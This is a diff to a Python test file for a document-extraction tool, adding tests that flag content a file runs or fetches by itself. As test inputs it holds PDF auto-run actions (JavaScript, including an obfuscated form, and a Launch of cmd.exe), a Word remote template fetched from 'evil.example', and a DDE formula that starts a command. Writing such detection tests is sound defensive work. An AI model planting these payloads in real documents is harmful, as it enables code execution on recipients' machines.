@@ -1,6 +1,9 @@
 """Everything in a file is taken out, seen or not, and what cannot be looked into is said."""
 
+import zlib
+
 import pytest
+from openpyxl import Workbook
 
 from portal.archive.kinds import Kind
 from portal.refusal import Refusal
@@ -133,7 +136,7 @@ def test_a_pdf_is_read_by_pages_with_notes_bookmarks_properties_and_attachments(
     assert "Phone 13912345678" in texts["第1页"]
     assert texts["第2页的批注或表单"] == texts["书签"] == texts["文档属性：作者"] == "Bai 13900000024"
     assert texts["内嵌文件“list.txt”：正文"] == "Bai 13900000024"
-    assert hidden(found) == {"第1页的批注或表单", "第2页的批注或表单"}
+    assert hidden(found) == {"第1页的批注或表单", "第2页的批注或表单", "打开时自动执行的动作"}
     assert unseen(found) == []
 
 
@@ -219,6 +222,44 @@ def test_entities_are_not_unfolded_and_nothing_is_fetched() -> None:
 
     assert "十" not in texts["内部数据“customXml/item1.xml”"]
     assert "甲" in texts["内部数据“customXml/item1.xml”"]
+    assert "内部数据“customXml/item1.xml”的定义" in texts
+
+
+@pytest.mark.parametrize(
+    ("actions", "told"),
+    [
+        (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "脚本"),
+        (b"/OpenAction<</S/J#61vaScript/JS(1)>>", "脚本"),
+        (b"/OpenAction<</S/Launch/F(cmd.exe)>>", "启动程序"),
+        (b"/OpenAction[3 0 R/Fit]", ""),
+    ],
+)
+def test_what_a_pdf_starts_by_itself_is_left_to_a_person(actions: bytes, told: str) -> None:
+    pieces_ = extract(Kind.PDF, leaky.acting(actions)).pieces
+
+    assert [piece.text for piece in pieces_ if piece.hidden] == ([told] if told else [])
+
+
+def test_what_a_pdf_starts_is_found_in_packed_objects_as_well() -> None:
+    packed = zlib.compress(b"5 0 <</S/JavaScript/JS(1)>>")
+    row = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed)
+
+    found = extract(Kind.PDF, leaky.acting(b"", row))
+
+    assert "打开时自动执行的动作" in hidden(found)
+
+
+def test_what_an_office_file_fetches_or_starts_by_itself_is_left_to_a_person() -> None:
+    links = (leaky._LINKS % leaky._LINK % ("r9", "http://evil.example/t.dotm")).replace(
+        "/>", ' TargetMode="External"/>'
+    )
+    formula = Workbook()
+    formula.active["A1"] = "=cmd|'/c calc'!A1"
+
+    template = extract(Kind.DOCX, leaky.added(leaky.word(), {"word/_rels/settings.xml.rels": links.encode()}))
+
+    assert "打开时从外部取得的内容" in hidden(template)
+    assert "工作表“Sheet”的公式" in hidden(extract(Kind.XLSX, leaky.saved(formula)))
 
 
 def test_a_file_that_says_too_much_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
